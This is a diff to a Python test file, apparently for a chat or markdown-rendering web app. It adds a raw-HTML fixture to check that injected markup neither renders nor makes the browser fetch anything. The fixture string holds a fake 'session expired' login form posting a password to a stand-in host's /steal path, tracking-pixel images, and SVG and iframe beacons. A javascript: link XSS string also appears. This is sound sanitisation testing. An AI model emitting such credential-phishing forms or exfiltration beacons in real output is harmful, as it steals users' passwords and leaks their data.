@@ -38,6 +38,18 @@ XSS = (
     "<a href=\"javascript:window.__pwned='link'\">click</a> **still markdown**"
 )
 
+# Raw HTML and Markdown images that must neither render as elements nor make the browser fetch anything.
+BEACON_HOST = "beacon.invalid"
+RAW_HTML = (
+    "Here you go. "
+    '<form action="http://beacon.invalid/steal" method="post">Session expired, log in again: '
+    '<input type="password" name="password"><button>Log in</button></form>'
+    '<img src="http://beacon.invalid/img.png" width="1" height="1">'
+    '<svg width="10" height="10"><image href="http://beacon.invalid/svg.png"/><circle r="4"/></svg>'
+    '<iframe src="http://beacon.invalid/frame"></iframe>'
+    " ![pixel](http://beacon.invalid/md.png) **still markdown**"
+)
+
 
 def chromium_required() -> bool:
     """True in CI (any non-empty `CI` but "false"/"0", as CI services set it): a missing browser is a failure."""
@@ -132,6 +144,11 @@ def served(tmp_path: Path) -> Iterator[ServedApp]:
 @pytest.fixture
 def served_xss(tmp_path: Path) -> Iterator[ServedApp]:
     yield from _serve(tmp_path, XSS)
+
+
+@pytest.fixture
+def served_raw_html(tmp_path: Path) -> Iterator[ServedApp]:
+    yield from _serve(tmp_path, RAW_HTML)
 
 
 @pytest.fixture
